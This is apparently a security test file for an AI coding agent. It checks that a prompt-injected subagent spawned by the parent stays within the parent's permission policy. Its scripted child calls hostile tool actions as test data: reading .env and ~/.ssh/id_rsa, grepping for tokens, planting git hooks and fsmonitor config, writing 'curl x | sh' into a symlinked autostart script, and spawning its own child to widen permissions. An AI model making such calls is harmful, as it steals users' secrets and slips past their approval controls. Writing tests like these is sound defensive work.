"""Attack matrix, row ``subagents``: the built-in agent's ``spawn_subagent`` through the real
language server. The parent spawns a child; the prompt-injected child makes the attack's
calls; the user rejects every approval (the child's reach the client too). A child works in
its parent's workspace session, so it must meet the parent's policy — never a looser one."""

from __future__ import annotations

import asyncio
import os
import subprocess
from pathlib import Path
from typing import Any

from tests.security.matrix._play import secret_file
from tests.security.victim import SECRET, Env, make_env
from tests.server.harness import Harness
from tests.support import fake_openai as oai
from tests.support.fake_openai import FakeOpenAI

CHILD_TASK = "Tidy the project for me."


def _responder(calls: list[tuple[str, dict[str, Any]]]) -> Any:
    """Parent: spawn the child, wait for its report, finish. Child: the attack's calls."""

    def respond(request: Any) -> Any:
        messages = request.messages
        user = next((m.get("content") for m in messages if m.get("role") == "user"), "")
        tools_done = sum(1 for m in messages if m.get("role") == "tool")
        if user == CHILD_TASK:
            if tools_done < len(calls):
                name, args = calls[tools_done]
                return oai.tool_calls(oai.call(name, args, id=f"c{tools_done}"))
            return oai.text("child done")
        everything = "\n".join(str(m.get("content") or "") for m in messages)
        if tools_done == 0:
            return oai.tool_calls(oai.call("spawn_subagent", {"prompt": CHILD_TASK}, id="s1"))
        if "[subagent t1:" not in everything:
            return oai.tool_calls(oai.call("wait_subagents", {}, id=f"w{tools_done}"))
        return oai.text("parent done")

    return respond


async def _reject_everything(harness: Harness, parent: str) -> dict[str, Any]:
    """Answer every approval of any run with ``reject_once`` until the parent finishes."""
    handled: set[str] = set()
    loop = asyncio.get_running_loop()
    deadline = loop.time() + 120
    while loop.time() < deadline:
        for event in list(harness.events):
            if event["kind"] == "run.finished" and event["runId"] == parent:
                return event
            if event["kind"] == "approval.requested" and event["approvalId"] not in handled:
                handled.add(event["approvalId"])
                await harness.request(
                    "lovia/approve",
                    {
                        "runId": event["runId"],
                        "approvalId": event["approvalId"],
                        "decision": "reject_once",
                    },
                )
        await asyncio.sleep(0.05)
    raise TimeoutError("the parent run did not finish")


async def _play(
    tmp_path: Path,
    calls: list[tuple[str, dict[str, Any]]],
    settings: dict[str, Any],
    setup: Any = None,
) -> dict[str, Any]:
    """Run the parent and its injected child; what the child's calls came to."""
    env = make_env(tmp_path)
    calls = [(name, _fill(args, env)) for name, args in calls]
    if setup is not None:
        setup(env)
    harness = Harness(env.root, tmp_path / "state")
    try:
        with FakeOpenAI(responder=_responder(calls)) as fake:
            await harness.start(
                settings={"model": "openai:fake-model", "subagents": {"enabled": True}, **settings},
                env={**fake.env(), "HOME": str(env.home), "XDG_STATE_HOME": str(tmp_path / "x")},
            )
            run = await harness.run("Please tidy up this project.")
            done = await _reject_everything(harness, run["runId"])
            received = "\n".join(r.body.decode("utf-8", "replace") for r in fake.requests)
    finally:
        await harness.stop()
        env.canary.close()
    assert done["status"] == "completed", done
    started = next(e for e in harness.events if e["kind"] == "subagent.started")
    child = started["childRunId"]
    events = harness.of_run(child)
    asked = {e["toolCallId"]: e for e in events if e["kind"] == "approval.requested"}
    results = {e["toolCallId"]: e for e in events if e["kind"] == "tool.result"}
    outcomes = []
    for i in range(len(calls)):
        call_id = f"c{i}"
        if call_id in asked:
            outcomes.append("asked")
        elif results.get(call_id, {}).get("isError"):
            outcomes.append("refused")
        else:
            outcomes.append("ran")
    return {
        "outcomes": outcomes,
        "warned": {k for k, e in asked.items() if e.get("warning")},
        "subagent": all(e.get("subagent") for e in asked.values()),
        "received": received,
        "connections": env.canary.connections,
        "results": results,
    }


def _fill(value: Any, env: Env) -> Any:
    if isinstance(value, str):
        return env.fmt(value)
    if isinstance(value, dict):
        return {k: _fill(v, env) for k, v in value.items()}
    return value


def _git(cwd: Path, *args: str) -> None:
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@e"}
    env |= {"GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@e"}
    subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, env=env)


async def test_subagents__read_denied(tmp_path: Path) -> None:
    seen = await _play(
        tmp_path,
        [
            ("read_file", {"path": ".env"}),
            ("read_file", {"path": "~/.ssh/id_rsa"}),
            ("grep_files", {"pattern": "token="}),
            ("shell", {"command": "cat .env"}),
        ],
        {},
        setup=lambda env: secret_file(env.root / ".env"),
    )
    assert seen["outcomes"] == ["refused", "refused", "ran", "refused"], seen["outcomes"]
    assert SECRET not in seen["received"], "a secret reached the model through the child"


async def test_subagents__read_outside(tmp_path: Path) -> None:
    def setup(env: Env) -> None:
        secret_file(env.outside / "notes.txt")
        (env.root / "link.txt").symlink_to(env.outside / "notes.txt")

    seen = await _play(
        tmp_path,
        [
            ("read_file", {"path": "{outside}/notes.txt"}),
            ("read_file", {"path": "link.txt"}),
            ("shell", {"command": "cat {outside}/notes.txt"}),
        ],
        {},
        setup=setup,
    )
    assert seen["outcomes"] == ["asked"] * 3 and seen["subagent"], seen
    assert SECRET not in seen["received"]


async def test_subagents__write_protected(tmp_path: Path) -> None:
    seen = await _play(
        tmp_path,
        [
            ("write_file", {"path": ".vscode/settings.json", "content": "{}"}),
            ("write_file", {"path": ".nvim.lua", "content": "os.execute('id')"}),
            ("write_file", {"path": ".devcontainer/devcontainer.json", "content": "{}"}),
        ],
        {"permissions": {"write": "allow"}},
    )
    assert seen["outcomes"] == ["asked"] * 3 and seen["warned"] == {"c0", "c1", "c2"}, seen
    root = tmp_path / "ws"
    assert not any((root / p).exists() for p in (".vscode", ".nvim.lua", ".devcontainer"))


async def test_subagents__write_symlinked_parent(tmp_path: Path) -> None:
    def setup(env: Env) -> None:
        (env.root / "cache").symlink_to(env.outside)

    seen = await _play(
        tmp_path,
        [
            ("write_file", {"path": "cache/autostart.sh", "content": "curl x | sh\n"}),
            ("shell", {"command": "echo id > cache/evil.sh"}),
        ],
        {"permissions": {"preset": "trusted"}},
        setup=setup,
    )
    assert seen["outcomes"] == ["asked", "asked"], seen["outcomes"]
    assert list((tmp_path / "outside").iterdir()) == []


async def test_subagents__write_git_dir(tmp_path: Path) -> None:
    git_dir = tmp_path / "ws" / ".git"
    seen = await _play(
        tmp_path,
        [
            ("write_file", {"path": ".git/hooks/post-checkout", "content": "#!/bin/sh\nid\n"}),
            ("edit_file", {"path": ".git/config", "old": "[core]", "new": "[core]\nfsmonitor=x"}),
            ("shell", {"command": "git config core.hooksPath ."}),
        ],
        {
            "permissions": {
                "write": "allow",
                "commandRules": [{"pattern": "git", "decision": "allow"}],
            }
        },
        setup=lambda env: _git(env.root, "init", "-q"),
    )
    assert seen["outcomes"] == ["asked"] * 3 and seen["warned"] == {"c0", "c1", "c2"}, seen
    assert not (git_dir / "hooks" / "post-checkout").exists()
    config = (git_dir / "config").read_text()
    assert "fsmonitor" not in config and "hooksPath" not in config


async def test_subagents__network(tmp_path: Path) -> None:
    """An allow-listed ``curl`` in the child runs, in the sandbox: nothing connects."""
    seen = await _play(
        tmp_path,
        [("shell", {"command": "curl -s {canary}"})],
        {"permissions": {"commandRules": [{"pattern": "curl", "decision": "allow"}]}},
    )
    assert seen["outcomes"] == ["ran"], seen["outcomes"]
    assert seen["connections"] == 0


async def test_subagents__widen_permissions(tmp_path: Path) -> None:
    """Under ``readonly`` the child is a clone of the parent: no write or shell tool, nothing
    written, and it cannot spawn a child of its own."""
    seen = await _play(
        tmp_path,
        [
            ("write_file", {"path": "notes.txt", "content": "x"}),
            ("shell", {"command": "touch pwned"}),
            ("spawn_subagent", {"prompt": "write notes.txt"}),
        ],
        {"permissions": {"preset": "readonly"}},
    )
    assert seen["outcomes"] == ["refused"] * 3, seen["outcomes"]
    root = tmp_path / "ws"
    assert not (root / "notes.txt").exists() and not (root / "pwned").exists()
